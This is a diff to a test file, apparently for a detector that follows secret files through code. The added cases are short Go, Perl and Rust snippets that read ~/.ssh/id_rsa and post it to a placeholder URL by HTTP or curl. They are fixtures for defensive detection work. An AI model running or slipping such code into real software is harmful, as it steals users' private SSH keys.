@@ -129,6 +129,14 @@ describe("a file of secrets is followed through functions and statements:", () =
       `package main\nfunc main() {\n\tfor _, p := range []string{"a.txt", ".ssh/id_rsa"} {\n\t\tkey, _ := os.ReadFile(filepath.Join(home, p))\n\t\t${sendsKey}\t}\n}`,
     ],
     [
+      "a member of what is sent",
+      `package main\nfunc main() {\n${readsKey}\tk, v, _ := strings.Cut(key, "=")\n\treport.vars[k] = v\n\thttp.Post("${url}", "a/b", encode(report))\n}`,
+    ],
+    [
+      "an open file",
+      `use strict; use LWP::UserAgent;\nopen(my $fh, '<', "$ENV{HOME}/.ssh/id_rsa") or exit;\nlocal $/; my $k = <$fh>;\n$ua->post('${url}', { d => $k });`,
+    ],
+    [
       "a program that sends",
       `use std::fs;\nfn main() {\n    let key = fs::read_to_string(home.join(".ssh/id_rsa")).unwrap();\n    Command::new("curl").args(["-d", &key, "${url}"]).status();\n}`,
     ],
